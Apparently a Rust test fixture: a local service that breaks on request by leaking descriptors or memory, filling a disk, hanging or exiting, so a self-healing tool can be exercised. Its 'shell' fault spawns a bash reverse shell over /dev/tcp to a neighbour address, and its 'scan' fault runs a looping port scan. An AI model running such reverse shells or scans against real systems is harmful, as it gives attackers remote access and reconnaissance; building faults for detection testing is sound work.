//! A service that can be broken: it answers on its port, and breaks as it is asked to.
//!
//! `GET /` says how it is; `GET /break/HOW` breaks it. Only what it does is real: it runs out of descriptors because it
//! opens them, and ends because an allocation failed.

use std::fs::{self, File};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpListener, TcpStream};
use std::path::Path;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use anyhow::{Context, Result, bail};

use crate::neighbour;

/// How long what cannot go on goes on.
const LAST_MOMENTS: Duration = Duration::from_secs(2);

/// In the environment of what an intruder started, so that it is found again.
pub(crate) const MARK: &str = "SKEP_HEALING_FAULT";

/// Of its file system, this much is filled.
const FULL_RATIO: f64 = 0.97;

/// Its files, and what it is asked to become.
pub(crate) mod files {
    /// A link to the release that runs.
    pub(crate) const CURRENT: &str = "current";
    /// In a release: the status it answers with.
    pub(crate) const ANSWER: &str = "answer";
    /// What it cannot read is in here.
    pub(crate) const STATE: &str = "state";
    /// It cannot live with this.
    pub(crate) const HOPELESS: &str = "hopeless";
    /// A file system of its own.
    pub(crate) const DISK: &str = "disk";
}

/// Serves until it breaks.
pub(crate) fn run(port: u16, folder: &Path) -> Result<()> {
    let answer = fs::read_to_string(folder.join(files::CURRENT).join(files::ANSWER)).context("no release")?;
    if fs::read_dir(folder.join(files::STATE))?.next().is_some() {
        thread::sleep(LAST_MOMENTS);
        bail!("its state is damaged");
    }
    if folder.join(files::HOPELESS).exists() {
        thread::spawn(|| {
            thread::sleep(LAST_MOMENTS);
            std::process::exit(1);
        });
    }
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, port))?;
    let hangs = Arc::new(AtomicBool::new(false));
    loop {
        if hangs.load(Ordering::Relaxed) {
            // Alive, and the kernel goes on taking connections for it.
            thread::park();
            continue;
        }
        match listener.accept() {
            Ok((mut stream, _)) => {
                let path = asked(&mut stream).unwrap_or_default();
                if let Some(how) = path.strip_prefix("/break/") {
                    begin(how, port, folder, &hangs)?;
                }
                // What it serves is in a file, for which it needs a descriptor.
                let page = File::open(folder.join(files::CURRENT).join(files::ANSWER));
                let answer = if page.is_ok() { answer.trim() } else { "503" };
                // Who hung up does not want to know.
                let text = format!("HTTP/1.1 {answer} x\r\nContent-Length: 0\r\n\r\n");
                let _gone = stream.write_all(text.as_bytes()).is_err();
            }
            Err(_) => thread::sleep(Duration::from_millis(50)),
        }
    }
}

/// The path of a request.
fn asked(stream: &mut TcpStream) -> Result<String> {
    stream.set_read_timeout(Some(Duration::from_secs(1)))?;
    let mut text = [0; 1024];
    let length = stream.read(&mut text)?;
    Ok(String::from_utf8_lossy(&text[..length]).split(' ').nth(1).unwrap_or_default().to_owned())
}

fn begin(how: &str, port: u16, folder: &Path, hangs: &AtomicBool) -> Result<()> {
    match how {
        "hang" => hangs.store(true, Ordering::Relaxed),
        "end" => std::process::exit(1),
        "descriptors" => drop(thread::spawn(|| leak_descriptors(Duration::from_millis(10)))),
        "descriptors-slowly" => drop(thread::spawn(|| leak_descriptors(Duration::from_millis(100)))),
        "memory" => drop(thread::spawn(leak_memory)),
        "disk" => fill(&folder.join(files::DISK))?,
        "shell" => {
            let script = format!("bash -i >& /dev/tcp/{}/{port} 0>&1", neighbour::ADDRESS);
            intrude(Command::new("/bin/bash").args(["-c", &script]), port)?;
        }
        "scan" => {
            let program = std::env::current_exe()?;
            intrude(Command::new(program).args(["scan", &neighbour::ADDRESS.to_string()]), port)?;
        }
        _ => {}
    }
    Ok(())
}

fn leak_descriptors(every: Duration) {
    let mut held = Vec::new();
    loop {
        held.extend(File::open("/dev/null"));
        thread::sleep(every);
    }
}

/// Ends in an abort when there is no more.
fn leak_memory() {
    let mut held = Vec::new();
    loop {
        held.push(vec![1_u8; 4 << 20]);
        thread::sleep(Duration::from_millis(50));
    }
}

fn fill(disk: &Path) -> Result<()> {
    for number in 0.. {
        let space = rustix::fs::statvfs(disk)?;
        if space.f_bavail as f64 <= (1.0 - FULL_RATIO) * space.f_blocks as f64 {
            break;
        }
        fs::write(disk.join(format!("debug.log.{number}")), vec![b'x'; 256 << 10])?;
    }
    Ok(())
}

/// Somebody else's program as a child of this one.
fn intrude(command: &mut Command, port: u16) -> Result<()> {
    let mut child = command.env(MARK, port.to_string()).spawn()?;
    thread::spawn(move || child.wait());
    Ok(())
}

/// Tries one port after another until it is ended.
pub(crate) fn scan(address: Ipv4Addr) -> Result<()> {
    loop {
        for port in 1..1000 {
            let to = SocketAddr::V4(SocketAddrV4::new(address, port));
            // Nearly all are refused.
            let _open = TcpStream::connect_timeout(&to, Duration::from_millis(200)).is_ok();
            thread::sleep(Duration::from_millis(50));
        }
    }
}
